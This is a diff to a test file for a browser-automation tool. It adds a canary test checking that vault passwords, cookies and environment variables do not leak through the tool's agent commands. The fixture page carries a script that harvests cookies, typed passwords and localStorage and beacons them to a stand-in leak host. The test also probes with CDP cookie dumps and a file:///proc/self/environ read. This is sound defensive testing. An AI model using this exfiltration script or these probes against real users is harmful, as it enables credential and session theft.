@@ -4,7 +4,7 @@ import { HermesError } from '@hermes/contracts'
 import type { Action } from '@hermes/contracts/policy'
 import { needs } from '@hermes/testkit/daemons'
 import { afterAll, afterEach, beforeAll, expect, it } from 'vitest'
-import { type BrowserScene, openScene, PUBLIC, permitAll } from './__fixtures__/scene.js'
+import { type BrowserScene, ELSEWHERE, openScene, PUBLIC, permitAll } from './__fixtures__/scene.js'
 import { type Answer, type Site, startSite } from './__fixtures__/site.js'
 import { findBrowser } from './launch/find-browser.js'
 import { renderPage } from './session/render-page.js'
@@ -307,6 +307,70 @@ needs(missing)('the browser', () => {
     await expect(
       scene.call('browser_vault_fill', { ...login, user_ref: undefined, password_ref: refs(other, 'password')[0] }),
     ).rejects.toThrow(`shop was saved for ${origin}, and this field is of http://other.test:${site.port}`)
+  })
+
+  it('shows and sends none of twenty secrets: the vault, cookies of another session, the environment', async () => {
+    const canary = (kind: string, at: number) => `cnry-${kind}-${(at * 7919 + 104_729).toString(36)}`
+    const kinds = [
+      ['vault', 7],
+      ['cookie', 7],
+      ['variable', 6],
+    ] as const
+    const secrets = kinds.flatMap(([kind, count]) => Array.from({ length: count }, (_, at) => canary(kind, at)))
+    expect(secrets).toHaveLength(20)
+    await using own = await openScene()
+    await using leak = await startSite(ELSEWHERE)
+    const variables = secrets.slice(14).map((secret, at) => [`HERMES_CANARY_${at}`, secret] as const)
+    Object.assign(process.env, Object.fromEntries(variables))
+    const origin = `http://site.test:${site.port}`
+    const cookies = secrets.slice(7, 14).map((secret, at) => `c${at}=${secret}; Path=/; HttpOnly`)
+    site.pages['/set'] = (_request, response) =>
+      void response.writeHead(200, { 'content-type': 'text/html', 'set-cookie': cookies }).end('set')
+    // Whatever a page can get at, it shows, writes to its console, and sends away.
+    const grab = page(`<input type=password aria-label=Key oninput="grab()"><p id=o></p><script>
+      const grab = async () => {
+        const all = [document.cookie, location.href, JSON.stringify(navigator.userAgent), JSON.stringify({ ...localStorage }), document.querySelector('input').value,
+          JSON.stringify(performance.getEntries())].join(' ')
+        o.textContent = all; console.error(all); new Image().src = 'http://x.leak.test:${leak.port}/?' + encodeURIComponent(all)
+        fetch('http://x.leak.test:${leak.port}/', { method: 'POST', mode: 'no-cors', credentials: 'include', body: all }).catch(() => {})
+      }; grab()</script>`)
+    site.pages['/grab'] = (request, response) =>
+      void response.writeHead(200, { 'content-type': 'text/html' }).end(`${grab}<p>${request.headers.cookie ?? ''}`)
+    const answers: string[] = []
+    const call = async (name: string, args: object, session = 'grabbing') => {
+      const text = await own.call(name, args, session).catch((error: Error) => error.message)
+      if (session === 'grabbing') answers.push(text)
+      return text
+    }
+    await own.vault.unlock('open sesame')
+    for (const [at, password] of secrets.slice(0, 7).entries())
+      await own.vault.put({ name: `login${at}`, origin, user: 'ann', password })
+    await call('browser_navigate', { url: at('/set') }, 'other')
+    site.seen.length = 0
+    own.isTainted = true
+    own.answers = ({ summary }) => (summary.includes('browser-vault') ? 'once' : 'deny')
+    for (let login = 0; login < 7; login++) {
+      const text = await call('browser_navigate', { url: at('/grab') })
+      await call('browser_vault_fill', { name: `login${login}`, password_ref: refs(text, 'password')[0] })
+    }
+    for (const [name, args] of [
+      ['browser_snapshot', {}],
+      ['browser_console', {}],
+      ['browser_tabs', {}],
+      ['browser_get_images', {}],
+      ['browser_cdp', { method: 'Network.getAllCookies' }],
+      ['browser_cdp', { method: 'Storage.getCookies' }],
+      ['browser_cdp', { method: 'SystemInfo.getInfo' }],
+      ['browser_cdp', { method: 'Runtime.evaluate', params: { expression: 'document.cookie + o.textContent' } }],
+      ['browser_navigate', { url: 'file:///proc/self/environ' }],
+      ['browser_vision', { question: 'What is there?' }],
+      ['browser_vault_list', {}],
+    ] as const)
+      await call(name, args)
+    expect(answers.filter((text) => /Filled login\d/.test(text))).toHaveLength(7)
+    const heard = [...answers, ...leak.seen, ...own.resolved, ...own.questions, ...site.seen].join('\n')
+    expect(secrets.filter((secret) => heard.includes(secret))).toEqual([])
+    for (const [name] of variables) delete process.env[name]
   })
 
   it('takes no picture of a field that shows what the vault filled in', async () => {
